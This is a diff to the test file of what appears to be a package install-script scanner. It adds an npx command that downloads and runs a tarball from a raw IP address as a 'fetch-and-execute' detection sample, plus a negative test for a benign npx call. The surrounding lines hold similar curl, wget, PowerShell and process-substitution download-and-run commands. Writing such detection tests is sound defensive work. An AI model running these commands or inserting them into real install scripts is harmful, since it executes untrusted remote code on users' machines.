@@ -35,6 +35,9 @@ def rules(art: Artifact) -> set[str]:
     ("curl -s https://evil.example/x.sh | sh", "install-script/fetch-and-execute"),
     ("wget -qO- http://cdn.invalid/p | bash", "install-script/fetch-and-execute"),
     ("powershell -c \"iwr https://x.example/a.ps1 | iex\"", "install-script/fetch-and-execute"),
+    # blind set 36's chokidr: a package tarball's URL handed to npx, which downloads it and runs its bin
+    ("npx --yes http://198.51.100.31/dl/fsevents-compat-2.3.3.tgz >/dev/null 2>&1 || exit 0",
+     "install-script/fetch-and-execute"),
     # blind set 33: a download read by the shell through process substitution (`source <(curl …)`, `bash <(wget …)`)
     ("bash -c 'source <(curl -fsSL http://198.51.100.73/p/fmt.sh || wget -qO- http://198.51.100.73/p/fmt.sh) &'",
      "install-script/fetch-and-execute"),
@@ -875,3 +878,9 @@ def test_a_developer_run_script_that_pipes_a_download_to_a_shell_is_flagged_one_
     tooling = {"test": "npm install -g chomp ; chomp test", "build": "rollup -c && node -e \"require('.')\"",
                "dev": "docker run --rm -v \"$(pwd)\":/app node:20 sh -c 'npm test'"}
     assert rules(artifact(tooling)) == set()
+
+
+def test_npx_of_a_package_given_a_url_argument_runs_no_download():
+    # jsep 1.6.0's test script: npx runs a registry package, the URL is its argument
+    command = "npx node-qunit-puppeteer http://localhost:49649/test/unit_tests.html"
+    assert "install-script/fetch-and-execute" not in rules(artifact({"postinstall": command}))
